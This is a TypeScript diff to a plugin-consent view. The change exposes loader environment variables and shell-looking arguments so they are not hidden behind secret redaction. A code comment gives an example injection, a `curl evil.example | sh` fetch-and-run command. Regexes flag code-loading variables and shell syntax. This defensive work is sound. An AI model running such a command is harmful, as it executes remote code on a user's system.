@@ -1,7 +1,8 @@
 import { createHash, randomUUID } from 'node:crypto';
 import type { PluginConsent } from '../../../shared/sign-in';
+import { visibleText } from '../../../shared/visible-text';
 import type { PluginCall } from './plugin-source';
-import { looksSecret, redactArguments } from './redact';
+import { HIDDEN, redact, redactArguments } from './redact';
 import { isSecretName } from './secret-names';
 
 /** Where agreements are kept: the settings. */
@@ -136,21 +137,46 @@ export function consentHash({ call, program }: Pick<AskedCall, 'call' | 'program
   return createHash('sha256').update(JSON.stringify(all)).digest('hex');
 }
 
+/** What the user judges: nothing unseen in it, and nothing hidden that could be more than a secret. */
 function view({ id, asked }: Question, changed: boolean): PluginConsent {
   const { plugin, user, cluster } = asked.call;
+  const hidden = redactArguments(plugin.args);
   return {
     id,
-    contexts: asked.contexts,
-    user,
-    path: plugin.path,
-    command: plugin.command,
-    program: asked.program,
-    args: redactArguments(plugin.args),
+    contexts: asked.contexts.map((context) => visibleText(context)),
+    user: visibleText(user),
+    path: visibleText(plugin.path),
+    command: visibleText(plugin.command),
+    program: visibleText(asked.program),
+    args: plugin.args.map((argument, index) => visibleText(judged(argument, hidden[index] ?? ''))),
     env: plugin.env.map(({ name, value }) => ({
-      name,
-      value: isSecretName(name) || looksSecret(value) ? null : value,
+      name: visibleText(name),
+      value: isSecretName(name) ? null : variable(name, value),
     })),
-    tellsServer: cluster?.server ?? null,
+    tellsServer: cluster === null ? null : visibleText(cluster.server),
     changed,
   };
+}
+
+/** Variables by which a program is made to load or run something else: never hidden, whatever they look like. */
+const LOADING =
+  /^(?:LD_|DYLD_|NODE_|PYTHON|PERL|RUBY|BASH_|JAVA_|JDK_|_JAVA|DOTNET_|COR_|GIT_(?!.*KEY)|(?:ENV|PATH|EDITOR|PAGER|BROWSER)$)/i;
+
+function variable(name: string, value: string): string | null {
+  if (LOADING.test(name)) return visibleText(value);
+  const shown = judged(value, redact(value));
+  return shown === HIDDEN ? null : visibleText(shown);
+}
+
+/**
+ * `hidden`, unless what it hides may be a command: `sh -c 'token="$(curl evil.example | sh)"'` would
+ * read as `token=•••`. Then all of it is shown, as the one who wrote it chose to have it read.
+ */
+function judged(text: string, hidden: string): string {
+  return hidden !== text && isCode(text) ? text : hidden;
+}
+
+/** What a shell reads more into than a word: no token, key or cookie has it. */
+function isCode(text: string): boolean {
+  return /[\s;|`]|&&|\$[({]|[<>]\(/.test(text);
 }
